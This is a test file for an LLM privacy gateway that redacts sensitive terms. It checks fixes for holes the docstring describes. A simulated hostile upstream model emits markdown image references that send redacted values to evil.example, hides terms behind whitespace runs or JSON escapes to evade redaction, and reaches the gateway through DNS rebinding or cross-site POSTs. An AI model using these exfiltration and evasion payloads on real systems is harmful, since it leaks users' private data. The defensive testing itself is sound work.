"""Attack paths probed in session 80, through the real gateway app (in process, the real core
without NER, two keys of one tenant, a scripted hostile upstream; a keyless gateway for the
callers without a key).

Holes closed (each test failed before):

- a markdown reference definition inside a block quote or a list item (``> [x]: <...>``,
  ``- [x]: <...>``) serves the whole document, so ``![y][x]`` fetched its ``<...>`` target,
  which may hold a space before the value: the guard read a definition only at a line's start;
- a redacted term whose words a long run of whitespace separates (``Project`` + 100 spaces +
  ``Nightjar``: the term matcher reads any run as one space) went out in a stream, its first
  word before its second came; the whole answer redacted it;
- streamed tool arguments are raw JSON, scanned as written: a redacted term behind a JSON
  escape (``Project\\nNightjar``, ``Nightj\\u0061r``) reached the client, where the whole
  arguments, read parsed, redact it;
- a gateway without keys on loopback answered any ``Host`` and ``Origin``: a web page the user
  opened reached it by DNS rebinding (its own name re-pointed at 127.0.0.1, its requests then
  same-origin: it read every batch and session of the one anonymous principal back, restored)
  or by a cross-site ``text/plain`` POST (no preflight).

The probes that found nothing are listed in docs/gateway.md.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import httpx
import pytest

from veil.gateway import GatewayState, OpenAIUpstream, TenantRegistry, create_app
from veil.gateway.tenants import Tenant

from .conftest import (
    chat_body,
    delta_chunk,
    parse_sse,
    redacting_veil,
    sse_response,
    tenant_app,
    tenant_client,
)
from .fakes import FakeVeil

EMAIL = "jane.exfil@example.com"
TERM = "Project Nightjar"
PLACEHOLDER = re.compile(r"\[[A-Z_]+_\d+\]")


def _first_placeholder(body: dict[str, Any]) -> str:
    found = PLACEHOLDER.findall(json.dumps(body))
    assert found, "the upstream got no placeholder"
    return str(found[0])


async def _chat(app: Any, stream: bool, content: str = f"write to {EMAIL}") -> httpx.Response:
    async with tenant_client(app) as c:
        return await c.post("/v1/chat/completions", json={
            "model": "m", "stream": stream, "messages": [{"role": "user", "content": content}]})


def _streamed_text(raw: str) -> str:
    events, _ = parse_sse(raw)
    return "".join(ch.get("delta", {}).get("content") or ""
                   for e in events for ch in e.get("choices") or [])


# --- a reference definition inside a container ----------------------------------------------

#: Definitions CommonMark reads inside a block quote or a list item (markdown-it renders each
#: ``![y][x]`` as an image of the target, the space encoded as %20).
NESTED_DEFINITIONS = [
    "![y][x]\n> [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n- [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n\n1. [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n\n* > [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n> [x]:\n> <https://evil.example/?q= {p}>",
]


@pytest.mark.parametrize("template", NESTED_DEFINITIONS,
                         ids=["quote", "dash", "ordered", "list-quote", "quote-next-line"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_a_reference_definition_in_a_container_is_a_url(
    tmp_path: Path, template: str, stream: bool
) -> None:
    def handler(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        text = "Here:\n" + template.format(p=_first_placeholder(body))
        if not stream:
            return httpx.Response(200, json=chat_body(text))
        cut = text.index("?q=") + 3
        return sse_response([delta_chunk({"role": "assistant", "content": text[:cut]}),
                             delta_chunk({"content": text[cut:]}, finish="stop")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), stream)
    assert r.status_code == 200
    assert "evil.example" in r.text
    assert EMAIL not in r.text


async def test_an_angle_bracket_after_a_label_still_closes(tmp_path: Path) -> None:
    """``]: <b>`` reads as a definition's target up to its ``>``: a value after it is prose."""
    def handler(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        return httpx.Response(200, json=chat_body(
            f"note [1]: <b>mail</b> {_first_placeholder(body)} today"))

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), False)
    assert r.json()["choices"][0]["message"]["content"] == f"note [1]: <b>mail</b> {EMAIL} today"


# --- a redacted term apart by a long run of whitespace ----------------------------------------

@pytest.mark.parametrize("gap", [" " * 100, "\n" * 120, " \t" * 40],
                         ids=["spaces", "lines", "tabs"])
async def test_a_term_split_by_a_long_whitespace_run_is_redacted_in_a_stream(
    tmp_path: Path, gap: str
) -> None:
    first, second = TERM.split()

    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return sse_response([delta_chunk({"role": "assistant", "content": f"about {first}{gap}"}),
                             delta_chunk({"content": f"{second} now"}, finish="stop")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True, "hi")
    text = _streamed_text(r.text)
    assert "[REDACTED_CODENAME]" in text
    assert second not in text
    assert text.startswith("about ") and text.endswith(" now")


async def test_a_stream_without_a_term_loses_no_whitespace(tmp_path: Path) -> None:
    """Held back longer, still all sent: the stream equals the answer."""
    answer = "one" + " " * 300 + "two\n\n\nthree " + "x" * 50

    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return sse_response([delta_chunk({"role": "assistant", "content": answer[:100]}),
                             delta_chunk({"content": answer[100:310]}),
                             delta_chunk({"content": answer[310:]}, finish="stop")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True, "hi")
    assert _streamed_text(r.text) == answer


# --- a redacted term behind JSON escapes in streamed tool arguments ----------------------------

ESCAPED = [r"Project\nNightjar", r"Project\tNightjar", r"Project\u00a0Nightjar",
           r"Project Nightj\u0061r", r"Pr\u006fject  \n  Nightjar"]


@pytest.mark.parametrize("written", ESCAPED, ids=["newline", "tab", "nbsp", "letter", "mixed"])
async def test_a_term_behind_json_escapes_in_streamed_arguments_stops_the_stream(
    tmp_path: Path, written: str
) -> None:
    raw = '{"query": "status of ' + written + ' today"}'
    assert TERM in " ".join(json.loads(raw)["query"].split())  # what a reader of it sees
    cut = raw.index("Nightj")

    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return sse_response([
            delta_chunk({"role": "assistant", "tool_calls": [{
                "index": 0, "id": "call_1", "type": "function",
                "function": {"name": "lookup", "arguments": raw[:cut]}}]}),
            delta_chunk({"tool_calls": [{"index": 0, "function": {"arguments": raw[cut:]}}]},
                        finish="tool_calls")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True, "hi")
    events, _ = parse_sse(r.text)
    args = "".join(tc["function"].get("arguments") or "" for e in events
                   for ch in e.get("choices") or []
                   for tc in ch.get("delta", {}).get("tool_calls") or [])
    assert "Nightj" not in args
    assert any(e.get("error", {}).get("code") == "upstream_protocol_error" for e in events)


async def test_escapes_without_a_term_stream_unchanged(tmp_path: Path) -> None:
    raw = '{"query": "caf\\u00e9\\nProject\\tNotes \\"x\\"", "path": "a\\\\b"}'

    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return sse_response([
            delta_chunk({"role": "assistant", "tool_calls": [{
                "index": 0, "id": "call_1", "type": "function",
                "function": {"name": "lookup", "arguments": raw[:20]}}]}),
            delta_chunk({"tool_calls": [{"index": 0, "function": {"arguments": raw[20:]}}]},
                        finish="tool_calls")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True, "hi")
    events, done = parse_sse(r.text)
    args = "".join(tc["function"].get("arguments") or "" for e in events
                   for ch in e.get("choices") or []
                   for tc in ch.get("delta", {}).get("tool_calls") or [])
    assert done and json.loads(args) == json.loads(raw)


# --- a keyless gateway and the pages of the user's browser --------------------------------------

def _open_app(upstream_calls: list[str], *, local_only: bool = True) -> Any:
    def handler(request: httpx.Request) -> httpx.Response:
        upstream_calls.append(request.url.path)
        return httpx.Response(200, json=chat_body("ok"))

    state = GatewayState(
        core=FakeVeil(),
        upstream=OpenAIUpstream("http://upstream.test/v1", api_key="sk-up",
                                transport=httpx.MockTransport(handler)),
        tenants=TenantRegistry([Tenant("default")], {}),
    )
    return create_app(state, local_only=local_only)


async def _post_as(app: Any, host: str, **headers: str) -> httpx.Response:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                 base_url=f"http://{host}") as c:
        return await c.post("/v1/chat/completions", headers=headers, content=json.dumps({
            "model": "m", "messages": [{"role": "user", "content": "hi"}]}))


@pytest.mark.parametrize("host", ["evil.example:8000", "evil.example", "192.168.1.20:8000",
                                  "localhost.evil.example", "127.0.0.1.nip.io:8000"])
async def test_a_keyless_gateway_refuses_a_foreign_host(host: str) -> None:
    """DNS rebinding: the page's host name now resolves to 127.0.0.1, its requests carry it."""
    calls: list[str] = []
    r = await _post_as(_open_app(calls), host, **{"content-type": "text/plain"})
    assert r.status_code == 403
    assert r.json()["error"]["code"] == "host_not_allowed"
    assert host.split(":")[0] not in r.text  # the caller's text is not repeated
    assert calls == []


async def test_a_keyless_gateway_lists_no_batches_to_a_rebound_page() -> None:
    calls: list[str] = []
    app = _open_app(calls)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                 base_url="http://attacker.example:8000") as c:
        r = await c.get("/v1/batches")
    assert r.status_code == 403


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://127.0.0.1.evil.example"])
async def test_a_keyless_gateway_refuses_a_cross_site_page(origin: str) -> None:
    """A ``text/plain`` POST from another site needs no preflight; the browser names its
    origin."""
    calls: list[str] = []
    r = await _post_as(_open_app(calls), "127.0.0.1:8000",
                       **{"origin": origin, "content-type": "text/plain"})
    assert r.status_code == 403
    assert calls == []


@pytest.mark.parametrize(("host", "origin"), [
    ("127.0.0.1:8000", None), ("localhost:8000", None), ("[::1]:8000", None),
    ("127.0.0.1", None), ("localhost:8000", "http://localhost:3000"),
    ("127.0.0.1:8000", "http://127.0.0.1:5173"),
])
async def test_a_keyless_gateway_serves_this_machine(host: str, origin: str | None) -> None:
    calls: list[str] = []
    headers = {"content-type": "application/json"}
    if origin:
        headers["origin"] = origin
    r = await _post_as(_open_app(calls), host, **headers)
    assert r.status_code == 200
    assert calls == ["/v1/chat/completions"]


async def test_keys_lift_the_host_check() -> None:
    """With a tenant key the key decides: any host, a missing key 401."""
    calls: list[str] = []
    app = _open_app(calls)
    app.state.veil.tenants.add_tenant(Tenant("acme"))
    app.state.veil.tenants.add_key("00" * 32, "acme")
    r = await _post_as(app, "gateway.example.com")
    assert r.status_code == 401


async def test_the_runner_limits_a_loopback_bind() -> None:
    """``veil serve`` on 127.0.0.1 passes ``local_only``: read from its source, the one place
    the app is made for a served socket."""
    import inspect

    from veil.gateway import runner

    src = inspect.getsource(runner._serve_one)
    assert "local_only=is_loopback(" in src
